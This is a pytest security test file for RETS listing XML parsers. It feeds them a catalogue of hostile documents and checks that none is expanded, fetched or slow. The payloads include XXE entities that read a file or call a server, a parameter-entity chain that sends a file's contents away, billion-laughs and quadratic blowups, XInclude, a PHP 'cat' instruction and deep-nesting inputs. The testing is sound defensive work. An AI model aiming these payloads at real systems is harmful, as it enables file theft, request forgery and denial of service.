"""XML as a weapon: nothing is expanded, fetched or believed, and no document takes long."""

import os
from collections.abc import Iterator
from pathlib import Path

import pytest

from parsers.errors import ParseError
from parsers.rets.compact import CompactListings
from parsers.rets.login import parse_login
from parsers.rets.objects import UrlTable
from parsers.rets.reply import read_reply
from parsers.rets.search import FieldNames, ListingParser
from parsers.rets.standard_xml import StandardXmlListings
from tests.security.servers import Victim, within

FIELDS = FieldNames("ListingKey", "PhotosChangeTimestamp", "PhotosCount", "ModificationTimestamp")

PLANTED = "planted-in-a-file"

MANY = 30_000

MOST = 6
"""Times what a document says that all its readings together may say: no expansion of it."""


def laughs(levels: int) -> str:
    """Each entity holds ten of the one before."""
    steps = "".join(
        f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' if n else '<!ENTITY a0 "ha">' for n in range(levels)
    )
    return f"<!DOCTYPE RETS [{steps}]>"


def holding(value: str, prolog: str = "", attributes: str = "") -> str:
    """An answer with a value where listings, rows, capabilities and replies have theirs."""
    return (
        f'{prolog}<RETS ReplyCode="0" ReplyText="ok" {attributes}>'
        f"<RETS-RESPONSE>Search={value}\n</RETS-RESPONSE>"
        f"<COLUMNS>ListingKey\tMediaURL\tObjectID</COLUMNS><DATA>{value}\t{value}\t1</DATA>"
        f"<L><P><ListingKey>{value}</ListingKey><Remarks>{value}</Remarks></P>"
        f"<P><ListingKey>2</ListingKey></P></L></RETS>"
    )


# {file} is a file's URL, {url} a server's: nobody may read the one or ask the other.
DOCUMENTS = {
    "internal entity": holding("&a;", '<!DOCTYPE RETS [<!ENTITY a "expanded-entity">]>'),
    "external entity of a file": holding("&a;", '<!DOCTYPE RETS [<!ENTITY a SYSTEM "{file}">]>'),
    "external entity of a server": holding("&a;", '<!DOCTYPE RETS [<!ENTITY a SYSTEM "{url}">]>'),
    "public external entity": holding("&a;", '<!DOCTYPE RETS [<!ENTITY a PUBLIC "-//X//Y" "{url}">]>'),
    "external entity with parse=text": holding(
        "&a;", '<!DOCTYPE RETS [<!ENTITY a SYSTEM "{file}" NDATA t>]>'
    ),
    "parameter entity": holding(
        "&a;", "<!DOCTYPE RETS [<!ENTITY % p '<!ENTITY a \"expanded-entity\">'> %p;]>"
    ),
    "external parameter entity": holding("&a;", '<!DOCTYPE RETS [<!ENTITY % p SYSTEM "{url}"> %p;]>'),
    "parameter entity that sends a file away": holding(
        "x",
        '<!DOCTYPE RETS [<!ENTITY % f SYSTEM "{file}"><!ENTITY % p "<!ENTITY a SYSTEM \'{url}?%f;\'>"> %p;]>',
    ),
    "external DTD": holding("x", '<!DOCTYPE RETS SYSTEM "{url}">'),
    "public DTD": holding("x", '<!DOCTYPE RETS PUBLIC "-//RETS//DTD" "{url}">'),
    "DTD with default attributes": holding(
        "x", '<!DOCTYPE RETS [<!ATTLIST ListingKey a CDATA "expanded-entity">]>'
    ),
    "billion laughs": holding("&a9;", laughs(10)),
    "billion laughs in an attribute": holding("x", laughs(10), 'Extra="&a9;"'),
    "quadratic blowup": holding("&a;" * 2000, f'<!DOCTYPE RETS [<!ENTITY a "{"ha" * 10_000}">]>'),
    "entity of itself": holding("&a;", '<!DOCTYPE RETS [<!ENTITY a "&a;">]>'),
    "entities of each other": holding("&a;", '<!DOCTYPE RETS [<!ENTITY a "&b;"><!ENTITY b "&a;">]>'),
    "entity in the reply code": '<!DOCTYPE RETS [<!ENTITY a "0">]><RETS ReplyCode="&a;" ReplyText="&a;"/>',
    "predefined entity made new": holding("&lt;", '<!DOCTYPE RETS [<!ENTITY lt "expanded-entity">]>'),
    "entity that nobody defined": holding("&nobody;"),
    "DOCTYPE inside the root": holding('<!DOCTYPE RETS [<!ENTITY a SYSTEM "{file}">]>&a;'),
    "DOCTYPE behind the root": holding("x") + '<!DOCTYPE RETS SYSTEM "{url}">',
    "DOCTYPE without an end": '<!DOCTYPE RETS [<!ENTITY a "' + "x" * 10_000,
    "XInclude": holding('<i:include xmlns:i="http://www.w3.org/2001/XInclude" href="{file}" parse="text"/>'),
    "XInclude of a server": holding('<i:include xmlns:i="http://www.w3.org/2001/XInclude" href="{url}"/>'),
    "style sheet": holding("x", '<?xml-stylesheet type="text/xsl" href="{url}"?>'),
    "processing instruction": holding('<?php system("cat {file}") ?>'),
    "a processing instruction in each place": holding("<?a b?>" * 5000),
    "schema of a server": holding(
        "x", "", 'xmlns:x="http://www.w3.org/2001/XMLSchema-instance" x:schemaLocation="a {url}"'
    ),
    "base of a server": holding("x", "", 'xml:base="{url}"'),
    "CDATA with markup": holding("<![CDATA[</ListingKey><ListingKey>expanded-entity]]>"),
    "CDATA in CDATA": holding("<![CDATA[" * 3000),
    "reference to NUL": holding("a&#0;b&#x0;c"),
    "reference beyond Unicode": holding("&#99999999999999999999;&#x110000;"),
    "reference of many digits": holding("&#" + "9" * 10_000 + ";"),
    "half a surrogate pair": holding("&#55357;x&#xD83D;"),
    "controls": holding("a\x00\x01\x1b[2J\x7f\x9b31mb"),
    "NUL between all letters": "\x00".join(holding("x")),
    "byte order mark in the middle": holding("a\ufeffb\ufffe"),
    "UTF-7": '<?xml version="1.0" encoding="UTF-7"?>' + holding("+ADw-script+AD4-"),
    "UTF-32": '<?xml version="1.0" encoding="UTF-32"?>' + holding("x"),
    "EBCDIC": '<?xml version="1.0" encoding="cp037"?>' + holding("x"),
    "encoding that packs": '<?xml version="1.0" encoding="zlib_codec"?>' + holding("x"),
    "encoding with a path": '<?xml version="1.0" encoding="../../etc/passwd"?>' + holding("x"),
    "XML 1.1": '<?xml version="1.1"?>' + holding("\x85\u2028"),
    "deep elements": holding("<a>" * 5000 + "</a>" * 5000),
    "deep elements without an end": holding("<a>" * MANY),
    "ends without a start": holding("</a>" * MANY),
    "deep photos": holding("<Photos><Photo>" * 2000),
    "many attributes": holding("x", "", " ".join(f'a{n}="{n}"' for n in range(4000))),
    "the same attribute twice": holding("x", "", 'ReplyCode="20037" ReplyCode="20201"'),
    "many namespaces": holding("x", "", " ".join(f'xmlns:n{n}="u:{n}"' for n in range(2000))),
    "prefix that nobody declared": holding("<n:a/>"),
    "huge value of an attribute": holding('<a b="' + "x" * 2 * MANY + '"/>'),
    "value without its quote": holding('<a b="' + "x" * MANY),
    "long name": holding("<" + "n" * MANY + "/>"),
    "names with colons": holding("<" + ":" * MANY + "/>"),
    "long comment": holding("<!--" + "- " * MANY + "-->"),
    "comment without an end": holding("<!--" + "->" * MANY),
    "count of 5,000 digits": '<RETS ReplyCode="0"><COUNT Records="' + "9" * 5000 + '"/></RETS>',
    "count below zero": '<RETS ReplyCode="0"><COUNT Records="-1"/></RETS>',
    "count in other digits": '<RETS ReplyCode="0"><COUNT Records="\u0661\u0662"/></RETS>',
    "reply code of 5,000 digits": '<RETS ReplyCode="' + "2" * 5000 + '"/>',
    "reply code with a sign": '<RETS ReplyCode="-0"/>',
    "long reply text": '<RETS ReplyCode="20203" ReplyText="' + "x" * 60_000 + '"/>',
    "delimiter of 5,000 digits": '<RETS ReplyCode="0"><DELIMITER value="' + "9" * 5000 + '"/></RETS>',
    "delimiter that is half a letter": '<RETS ReplyCode="0"><DELIMITER value="D83D"/></RETS>',
    "delimiter that is markup": holding("x").replace("<COLUMNS>", '<DELIMITER value="3C"/><COLUMNS>'),
    "as many columns as letters": "<RETS ReplyCode='0'><COLUMNS>" + "c\t" * 20_000 + "</COLUMNS></RETS>",
    "photo number of 5,000 digits": holding(
        "x</ListingKey><Photo><SequenceID>" + "9" * 5000 + "</SequenceID></Photo><ListingKey>y"
    ),
    "timeout of 5,000 digits": "<RETS ReplyCode='0'><RETS-RESPONSE>\nTimeoutSeconds="
    + "9" * 5000
    + "\n</RETS-RESPONSE></RETS>",
    "capability that is code": holding("javascript:alert(1)"),
    "starts of a response": '<RETS ReplyCode="0">' + "<RETS-RESPONSE " * MANY,
    "starts of a status": '<RETS ReplyCode="0">' + "<RETS-STATUS '\"" * MANY,
    "starts of tags": '<RETS ReplyCode="0"><RETS-RESPONSE>' + "<" * 10 * MANY + "</RETS-RESPONSE></RETS>",
    "starts of columns": '<RETS ReplyCode="0">' + "<COLUMNS " * MANY,
    "declarations": "<?xml" * 10_000 + '?><RETS ReplyCode="0"/>',
    "blanks before an end": '<RETS ReplyCode="0"></RETS' + " " * 10 * MANY,
    "words of an attribute": holding("<a " + "b " * MANY + "/>"),
    "quotes of an attribute": holding("<a b=" + "\"'" * MANY + "/>"),
    "references": holding("&#55357;" * MANY),
    "ampersands": holding("&" * 3 * MANY),
    "HTML": "<!DOCTYPE html><html><script>alert(1)</script></html>",
    "JSON": '{{"a": "b"}}' * 1000,
    "a picture": "\xff\xd8\xff\xe0" * 1000,
    "nothing": "",
}


@pytest.fixture
def planted(tmp_path: Path) -> Iterator[str]:
    file = tmp_path / "secret"
    file.write_text(PLANTED, encoding="utf-8")
    yield file.as_uri()
    assert os.environ.get("XML_CATALOG_FILES") is None


def listings_of(parser: ListingParser, document: bytes) -> str:
    """All that comes of a search answer, as text."""
    said: list[object] = []
    try:
        for at in range(0, len(document), 4096):
            said += parser.receive_data(document[at : at + 4096])
        said.append(parser.close())
    except ParseError as error:
        said.append(error)
    return repr(said)


def other_answers_of(document: bytes) -> str:
    """The same as a login, a table of URLs and a reply."""
    said: list[object] = [read_reply(document)]
    for read in (parse_login, lambda text: UrlTable().receive_data(text)):
        try:
            said.append(read(document))
        except ParseError as error:
            said.append(error)
    return repr(said)


@pytest.mark.parametrize("document", DOCUMENTS.values(), ids=DOCUMENTS.keys())
def test_a_hostile_document_is_neither_expanded_nor_followed(
    document: str, planted: str, bystander: Victim
) -> None:
    url = f"http://127.0.0.1:{bystander.port}/x"
    raw = document.replace("{file}", planted).replace("{url}", url).encode("utf-8", "surrogatepass")
    with within(2):
        said = listings_of(StandardXmlListings(FIELDS), raw)
        said += listings_of(CompactListings(FIELDS), raw)
        said += other_answers_of(raw)
    assert PLANTED not in said
    assert "hahaha" not in said
    assert said.count("expanded-entity") <= 2 * raw.count(b"expanded-entity") * ("CDATA" in document)
    assert len(said) < MOST * len(raw) + 10_000
    assert bystander.visits == 0
